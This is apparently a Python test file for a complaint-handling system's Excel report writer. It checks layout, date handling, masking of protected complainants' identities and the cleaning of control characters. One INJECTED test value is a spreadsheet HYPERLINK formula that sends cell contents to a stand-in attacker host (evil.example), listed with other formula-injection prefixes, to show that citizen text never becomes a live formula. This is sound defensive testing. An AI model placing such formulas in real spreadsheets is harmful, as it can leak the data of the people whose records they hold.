"""The shared XLSX writer: merged headings, column numbers, numbers and real dates, frozen header; the reception
book's writer never prints a protected person's identity."""
from __future__ import annotations

import io
from datetime import date, datetime, timezone

from openpyxl import load_workbook

from dvflow.services.reports import xlsx
from dvflow.services.reports.reception_book import BookRow, reception_book_workbook


def open_book(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def test_table_layout_and_types():
    cols = [xlsx.Col("STT", "int"), xlsx.Col("Mã", "text"), xlsx.Col("Nhận", "date", group="Ngày"),
            xlsx.Col("Xong", "datetime", group="Ngày"), xlsx.Col("Điểm", "float")]
    late = datetime(2026, 9, 14, 17, 30, tzinfo=timezone.utc)  # 00:30 on 15/09 in Hanoi
    ws = open_book(xlsx.table_workbook(title="Tiêu đề", period_line="Kỳ", unit_name="Đơn vị", columns=cols,
                                       rows=[[1, "KN-1", late, late, 4.5], [2, "KN-2", date(2026, 1, 2), None, None]]))
    assert (ws["A1"].value, ws["A2"].value, ws["A3"].value) == ("Đơn vị", "Tiêu đề", "Kỳ")
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"C6:D6", "A6:A7", "B6:B7", "E6:E7", "A2:E2"} <= merged
    assert [ws.cell(row=8, column=i).value for i in range(1, 6)] == ["(1)", "(2)", "(3)", "(4)", "(5)"]
    assert ws["A9"].value == 1 and ws["C9"].value == datetime(2026, 9, 15)  # the local date
    assert ws["C9"].number_format == "dd/mm/yyyy" and ws["D9"].value == datetime(2026, 9, 15, 0, 30)
    assert ws["E9"].value == 4.5 and ws["D10"].value is None
    assert ws.freeze_panes == "B9"


def test_reception_book_hides_protected_identities():
    rows = [BookRow(day=date(2026, 11, 2), name="Phạm Văn Dũng", address="Hà Nội", identity_number="079000111222",
                    summary="TC-2026-000001 Tố cáo", letter_type="Tố cáo", hidden=True, competent=True),
            BookRow(day=date(2026, 11, 3), name="Nguyễn Văn An", address="Huế", identity_number="001086000123",
                    summary="KN-2026-000002", letter_type="Khiếu nại", people=6, guided="UBND xã Đông, 3/HD",
                    accepted="Sở Y tế, 5/PC")]
    ws = open_book(reception_book_workbook(rows, unit_name="Sở NN&MT", first=date(2026, 11, 1),
                                           last=date(2026, 11, 30)))
    cells = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
    assert not any("Phạm Văn Dũng" in v or "079000111222" in v for v in cells)
    assert "Đã được bảo mật" in cells and "Nguyễn Văn An, Huế" in cells and "001086000123" in cells
    assert ws["A3"].value == "Từ ngày 01/11/2026 đến ngày 30/11/2026" and ws["A4"].value == "Mẫu số 03/TCD"
    # one header row as in Mẫu 03/TCD: (9) ticked, (10) and (11) name the body and the letter
    assert ws.cell(row=7, column=11).value == "(11)" and ws["B6"].value == "Ngày tiếp"
    first = 8
    assert ws.cell(row=first, column=9).value == "x" and ws.cell(row=first + 1, column=9).value is None
    assert [ws.cell(row=first + 1, column=c).value for c in (10, 11)] == ["UBND xã Đông, 3/HD", "Sở Y tế, 5/PC"]
    assert ws.cell(row=first + 1, column=7).value == 6


INJECTED = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+84 Phố A", "-2+3", "@SUM(1,2)", "=1+1")


def _text_cells(ws):
    return [c for row in ws.iter_rows(min_row=8) for c in row if isinstance(c.value, str)]


def test_citizen_text_is_never_a_formula_in_the_book():
    """A name, address, summary or note typed by a citizen and starting with = + - @ stays the text typed: a string
    cell (openpyxl made "=..." a formula), with Excel's quote prefix so that editing it does not evaluate it."""
    name, address, summary, note, other = INJECTED
    rows = [BookRow(day=date(2026, 8, 6), name=name, address=address, summary=summary, note=note,
                    resolved_by=other)]
    ws = open_book(reception_book_workbook(rows, unit_name="Sở", first=date(2026, 8, 1), last=date(2026, 8, 31)))
    cells = _text_cells(ws)
    assert not [(c.coordinate, c.value) for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert {c.value for c in cells} >= {f"{name}, {address}", summary, note, other}
    assert all(c.quotePrefix for c in cells if c.value.startswith(xlsx.FORMULA_STARTS))


def test_citizen_text_is_never_a_formula_in_a_case_list():
    cols = [xlsx.Col("STT", "int"), xlsx.Col("Trích yếu", "text"), xlsx.Col("Số người", "int")]
    rows = [[i, text, 2] for i, text in enumerate((*INJECTED, "#N/A", "Khiếu nại thường"), start=1)]
    ws = open_book(xlsx.table_workbook(title="Danh sách hồ sơ", period_line="", unit_name="Đơn vị", columns=cols,
                                       rows=rows))
    first = 8  # one header row and the row of column numbers
    cells = [ws.cell(row=first + i, column=2) for i in range(len(rows))]
    assert [c.value for c in cells] == [r[1] for r in rows] and {c.data_type for c in cells} == {"s"}
    assert ws.cell(row=first, column=3).data_type == "n"  # numbers stay numbers
    assert not cells[-1].quotePrefix  # ordinary text carries no prefix


def test_control_characters_a_worksheet_cannot_hold_become_the_replacement_character():
    """openpyxl refuses C0 controls (IllegalCharacterError: a filter typed into the address made the export a 500);
    every cell of the writer shows U+FFFD in their place, and keeps tabs and line breaks."""
    ws = open_book(xlsx.table_workbook(title="Tiêu\x07đề", period_line="Bộ lọc: kind=a\x00b", unit_name="Đơn\x1bvị",
                                       columns=[xlsx.Col("Nội\x01dung")], rows=[["dòng 1\ndòng 2\tcột\x0b"]],
                                       notes=["ghi\x08chú"]))
    assert (ws["A1"].value, ws["A2"].value, ws["A3"].value) == ("Đơn\ufffdvị", "Tiêu\ufffdđề", "Bộ lọc: kind=a\ufffdb")
    assert ws["A6"].value == "Nội\ufffddung" and ws["A8"].value == "dòng 1\ndòng 2\tcột\ufffd"
    assert ws["A10"].value == "ghi\ufffdchú"
